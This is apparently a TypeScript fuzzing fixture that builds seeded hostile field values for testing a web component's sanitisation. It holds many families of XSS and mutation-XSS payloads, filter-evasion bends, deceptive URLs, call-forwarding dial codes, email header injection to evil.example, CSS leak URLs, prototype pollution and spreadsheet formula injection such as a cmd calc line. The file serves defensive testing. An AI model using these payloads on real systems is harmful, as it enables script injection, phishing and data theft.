/**
 * Field values that try to be more than text, made from a seed: families of payloads, bent in the ways that filters have been
 * fooled with, each with a number of its own, so that what was called, asked for or shown can be traced to its value.
 */
import { FIELDS, GOOD, type Given } from '../feeds/hostile.js';
import { Chance } from '../feeds/mutate.js';

/** Where a payload that worked would be seen: a function that nobody calls, and a path that nobody asks for. */
const call = (mark: string): string => `canary('${mark}')`;
const leak = (mark: string): string => `/leak/${mark}`;

const FAMILIES: Readonly<Record<string, readonly ((mark: string) => string)[]>> = {
  'script tags': [m => `<script>${call(m)}</script>`, m => `<script src=${leak(m)}></script>`, m => `</script><script>${call(m)}</script>`, m => `<scr<script>ipt>${call(m)}</scr</script>ipt>`, m => `<script\n>${call(m)}</script\t>`, m => `<SCRIPT/x>${call(m)}</SCRIPT>`, m => `&lt;script&gt;${call(m)}&lt;/script&gt;`, m => `&amp;lt;script&amp;gt;${call(m)}`],
  'event handlers': [m => `<img src=x onerror=${call(m)}>`, m => `<img src="${leak(m)}" onload=${call(m)}>`, m => `"><img src=x onerror=${call(m)}>`, m => `' onmouseover='${call(m)}`, m => `" autofocus onfocus="${call(m)}" x="`, m => `<details open ontoggle=${call(m)}>`, m => `<body onload=${call(m)}>`, m => `<input autofocus onfocus=${call(m)}>`, m => `<video><source onerror=${call(m)}></video>`, m => `<marquee onstart=${call(m)}>`, m => `\` onclick=${call(m)} \``],
  'elements': [m => `<iframe src="javascript:parent.${call(m)}"></iframe>`, m => `<iframe srcdoc="<script>parent.${call(m)}</script>"></iframe>`, m => `<object data="javascript:${call(m)}"></object>`, m => `<embed src="${leak(m)}">`, m => `<base href="${leak(m)}/">`, m => `<meta http-equiv=refresh content="0;url=${leak(m)}">`, m => `<link rel=stylesheet href=${leak(m)}>`, m => `<form action="javascript:${call(m)}"><button>x</button></form>`, m => `<style>@import '${leak(m)}';</style>`, m => `<template shadowrootmode=open><script>${call(m)}</script></template>`, m => `<resource-finder feed="${leak(m)}"></resource-finder>`],
  'SVG and MathML': [m => `<svg onload=${call(m)}>`, m => `<svg><script>${call(m)}</script></svg>`, m => `<svg><a xlink:href="javascript:${call(m)}"><text>x</text></a></svg>`, m => `<svg><animate onbegin=${call(m)} attributeName=x dur=1s>`, m => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call(m)}>#x"></use></svg>`, m => `<math><maction actiontype="statusline#" xlink:href="javascript:${call(m)}">x</maction></math>`, m => `<svg><foreignObject><iframe onload=${call(m)}></foreignObject></svg>`],
  'mutation': [m => `<svg></p><style><a title="</style><img src=x onerror=${call(m)}>">`, m => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call(m)}&gt;">`, m => `<noscript><p title="</noscript><img src=x onerror=${call(m)}>">`, m => `<listing>&lt;img src=x onerror=${call(m)}&gt;</listing>`, m => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(m)}>`, m => `<!--><img src=x onerror=${call(m)}>-->`, m => `<![CDATA[><img src=x onerror=${call(m)}>]]>`, m => `<textarea></textarea><img src=x onerror=${call(m)}>`],
  'script links': [m => `javascript:${call(m)}`, m => `javascript://x.example/%0a${call(m)}`, m => `data:text/html,<script>parent.${call(m)}</script>`, m => `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoJ${m}`, m => `vbscript:${call(m)}`, m => `blob:https://x.example/${m}`, m => `view-source:javascript:${call(m)}`, m => `jar:javascript:${call(m)}!/`, m => `filesystem:https://x.example/${m}`, m => `feed:javascript:${call(m)}`, m => `about:blank#${m}`, m => `intent://x/#Intent;scheme=javascript;end;${m}`, m => `https://x.example/?${m}"onclick="${call(m)}`, m => `file:///etc/${m}`],
  'links that lie': [m => `https://va.gov@x.example/${m}`, m => `https://va.gov%40x.example/${m}`, m => `https://user:pass@x.example/${m}`, m => `https://x.example\\@va.gov/${m}`, m => `//x.example${leak(m)}`, m => `\\\\x.example\\${m}`, m => `https:x.example/${m}`, m => `http://xn--pple-43d.example/${m}`, m => `http://аpple.example/${m}`, m => `https://x.example:80:80/${m}`, m => `https://[::1]/${m}`, m => `https://0x7f.1/${m}`, m => `https://x。example/${m}`, m => `https://x.example/\u202Emoc.elgoog//:sptth/${m}`, m => `ftp://x.example/${m}`],
  'numbers that do things': [m => `tel:*31#215${m}`, () => `*31#2156866440`, m => `**21*2156866440#${m}`, () => `#31#2156866440`, () => `tel:%2A%2306%23`, () => `*67 215-686-6440`, m => `tel:2156866440,,9${m}`, m => `2156866440;phone-context=+${m}`, m => `tel:+1-900-555-0100?body=${m}`, m => `sms:988?body=${m}`, m => `sms:988;body=${m}`, m => `sms://open?addresses=988,2156866440&body=${m}`, m => `215-686-6440 <a href="tel:1900${m}">`, () => `215-6\u200B86-64\u202E40`, () => `٢١٥-٦٨٦-٦٤٤٠`, m => `facetime:${m}@x.example`, () => `988 215-686-6440`, m => `911;ext=${m}`, m => `215-686-6440 x*9${m}`, m => `wtai://wp/mc;${m}`],
  'letters to others': [m => `help@x.example?bcc=${m}%40evil.example`, m => `help@x.example?cc=${m}@evil.example`, m => `help@x.example?body=${m}`, m => `help@x.example&bcc=${m}@evil.example`, m => `help@x.example,${m}@evil.example`, m => `help@x.example%0ABcc:${m}@evil.example`, m => `help@x.example\nBcc: ${m}@evil.example`, m => `"${m}@evil.example"@x.example`, m => `mailto:help@x.example?attach=/etc/${m}`, m => `help@x.example?subject=${m}.x`, m => `help@x.example#${m}.x`, () => `help%40evil.example,@x.example`],
  'what cannot be seen': [m => `Open\u0000${m}`, m => `\u202E${m}gpj.exe`, m => `\u2066${m}`, m => `${m}\u2069\u202C\u202C`, m => `\u061C\u200F${m}\u200E`, m => `a\u200Bb\u2060c\u00ADd\uFEFF${m}`, m => `\uD800${m}`, m => `${m}\uDC00x`, m => `\u001B[31m${m}\u001B]8;;https://x.example\u0007`, m => `${m}\u2028\u2029`, m => `\u{E0041}\u{E0042}${m}`, m => `${m}\u0007\u0008\u007F\u0085\u009B`, m => `e${'\u0301'.repeat(200)}${m}`, m => `\uFFF9a\uFFFAb\uFFFB${m}`],
  'templates': [m => `\${${call(m)}}`, m => `{{constructor.constructor("${call(m)}")()}}`, m => `{name|${m}|{count}}`, m => `{message}{count}${m}`, m => `<%= ${call(m)} %>`, m => `#{${call(m)}}`, m => `\uFFFC${m}`, m => `{${m}`, m => `lit$${m}$ <!--?lit$${m}$-->`, m => `$\{\`${call(m)}\`}`, m => `$&$1$\`${m}`, m => `%s%n%x${m}`],
  'styles': [m => `x;background:url(${leak(m)})`, m => `}*{background:url(${leak(m)})}`, m => `</style><script>${call(m)}</script>`, m => `expression(${call(m)})`, m => `red;-moz-binding:url(${leak(m)})`, m => `@import url(${leak(m)});`, m => `\\3c script\\3e ${call(m)}`, m => `--rf-color-ink:url(${leak(m)})`],
  'names of objects': [() => '__proto__', () => 'constructor', () => 'prototype', () => 'toString', () => 'hasOwnProperty', () => '__defineSetter__', () => 'valueOf', m => `__proto__[polluted]=${m}`, m => `constructor.prototype.polluted=${m}`, m => `{"__proto__":{"polluted":"${m}"}}`, () => 'then', () => 'nodeType', () => '_$litType$', () => 'us-988'],
  'formulas': [m => `=HYPERLINK("https://x.example/${m}","x")`, m => `+${call(m)}`, m => `@SUM(${m})`, m => `\t=cmd|'/c calc'!${m}`, m => `-2+3+${m}`, m => `＝1+${m}`],
  'length': [m => `${m}${'x'.repeat(3000)}`, m => `${'https://x.example/'.repeat(100)}${m}`, m => `${m}${' '.repeat(2000)}x`, m => `${'<'.repeat(1000)}${m}`, m => `${m}${'﷽'.repeat(120)}`, m => `${m}\n${'a\n'.repeat(400)}`, m => `${'"'.repeat(999)}${m}`],
};

/** How a payload is bent: what a filter that looks for the plain one would miss. */
const BENDS: readonly ((text: string, chance: Chance) => string)[] = [
  text => text, text => text, text => text,
  (text, chance) => [...text].map(letter => chance.often(0.5) ? letter.toUpperCase() : letter).join(''),
  (text, chance) => { const at = chance.whole(Math.min(text.length, 14)); return text.slice(0, at) + chance.one(['\t', '\n', '\r', '\0', '\u00A0', '\u200B', '\u00AD', '\u2028', '\u0001', ' ']) + text.slice(at); },
  (text, chance) => { const at = chance.whole(Math.min(text.length, 14)); return `${text.slice(0, at)}&#${chance.often(0.5) ? `x${(text.charCodeAt(at) || 65).toString(16)}` : text.charCodeAt(at) || 65}${chance.one([';', ''])}${text.slice(at + 1)}`; },
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), text => text.replaceAll('<', '\uFF1C'), text => text.replaceAll(':', '&colon;'), text => text.replaceAll('(', '&lpar;'),
  text => encodeURIComponent(text.replace(/[\uD800-\uDFFF]/g, '')), (text, chance) => chance.one([' ', '\u0001', '\uFEFF', '\n', '\u3000']) + text,
  (text, chance) => `${chance.one(Object.values(GOOD))} ${text}`, (text, chance) => `${text} ${chance.one(Object.values(GOOD))}`, text => `"${text}"`, text => `<b>${text}</b>`, text => `${text}; ${text}`,
];

export interface Batch { readonly records: readonly Given[]; readonly values: number; readonly families: ReadonlySet<string> }

/** One in so many fields of a record is hostile: with all of them, little would be shown of it. */
const SHARE = 1 / 3;

/** So many records, every third field of each a hostile value. Numbers go on from `from`. */
export function hostileBatch(seed: number, records: number, from: number): Batch {
  const chance = new Chance(seed), families = new Set<string>();
  let values = 0;
  return {
    records: Array.from({ length: records }, (_, row) => {
      const record: Record<string, unknown> = { ...GOOD, id: `r${from + row}`, name: `Service ${from + row}`, address: `${from + row} Main St` };
      for (const field of FIELDS) {
        if (!chance.often(SHARE)) continue;
        const family = chance.one(Object.keys(FAMILIES)), make = chance.one(FAMILIES[family] ?? []);
        families.add(family);
        record[field] = chance.one(BENDS)(make(`m${from + row}x${values++}`), chance);
      }
      return record;
    }),
    get values() { return values; },
    families,
  };
}

export const ALL_FAMILIES: readonly string[] = Object.keys(FAMILIES);
